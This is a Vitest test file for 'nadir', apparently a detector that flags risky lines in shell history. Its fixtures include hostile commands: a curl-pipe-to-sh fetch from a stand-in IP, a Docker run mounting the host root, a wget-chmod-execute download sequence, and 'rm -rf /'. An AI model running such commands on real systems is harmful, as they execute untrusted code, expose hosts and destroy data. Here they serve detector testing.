import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ndjson, runProgram } from '../../tools/harness/run-program.ts';
import { Scratch } from '../../tools/harness/scratch.ts';

const LINES = ['ls -la', '', 'curl -s http://203.0.113.9/a | sh', 'docker run -v /:/host alpine', 'uname -a'];

let scratch: Scratch;
let file: string;

beforeAll(() => {
  scratch = new Scratch('shell-commands');
  file = join(scratch.dir, 'history');
  writeFileSync(file, `${LINES.join('\n')}\n`);
});
afterAll(() => scratch.remove());

describe('nadir commands', () => {
  it('prints one judgement per line with --json', async () => {
    const { code, out, err } = await runProgram('nadir', ['commands', file, '--json']);
    expect({ code, err }).toEqual({ code: 0, err: '' });
    const judged = ndjson(out);
    expect(judged.map(({ line, command }) => [line, command])).toEqual(
      LINES.map((line, at) => [at + 1, line]),
    );
    expect(judged.map(({ verdict }) => verdict)).toEqual(['benign', 'benign', 'alert', 'alert', 'benign']);
    for (const one of judged)
      expect(Object.keys(one)).toEqual(['line', 'command', 'verdict', 'score', 'techniques', 'reason']);
    expect(judged[2]).toMatchObject({ techniques: expect.arrayContaining(['T1105']) });
    expect(judged[0]).toMatchObject({ score: 0, techniques: [], reason: '' });
  });

  it('shows people what is worth a look, and nothing else', async () => {
    const { code, out } = await runProgram('nadir', ['commands', file]);
    expect(code).toBe(0);
    expect(out).toMatch(/^3\talert\t/);
    expect(out).toContain('4\talert\t');
    expect(out).not.toContain('ls -la');
    expect(out).not.toContain('uname');
  });

  it('takes the lines as one session when asked to', async () => {
    const session = join(scratch.dir, 'session');
    writeFileSync(session, 'wget http://files.example.net/x86\nchmod +x x86\n./x86\n');
    const alone = ndjson((await runProgram('nadir', ['commands', session, '--json'])).out);
    const together = ndjson((await runProgram('nadir', ['commands', session, '--session', '--json'])).out);
    expect(alone.map(({ verdict }) => verdict)).toEqual(['benign', 'benign', 'benign']);
    expect(together.map(({ verdict }) => verdict)).toEqual(['benign', 'benign', 'notice']);
  });

  it('reads compressed files', async () => {
    const packed = join(scratch.dir, 'history.gz');
    writeFileSync(packed, gzipSync('rm -rf /\n'));
    const { out } = await runProgram('nadir', ['commands', packed, '--json']);
    expect(ndjson(out)).toMatchObject([{ line: 1, verdict: 'alert' }]);
  });

  it('says which file it cannot read', async () => {
    const { code, err } = await runProgram('nadir', ['commands', join(scratch.dir, 'none')]);
    expect(code).toBe(1);
    expect(err).toContain('NADIR_INPUT_UNREADABLE');
  });
});
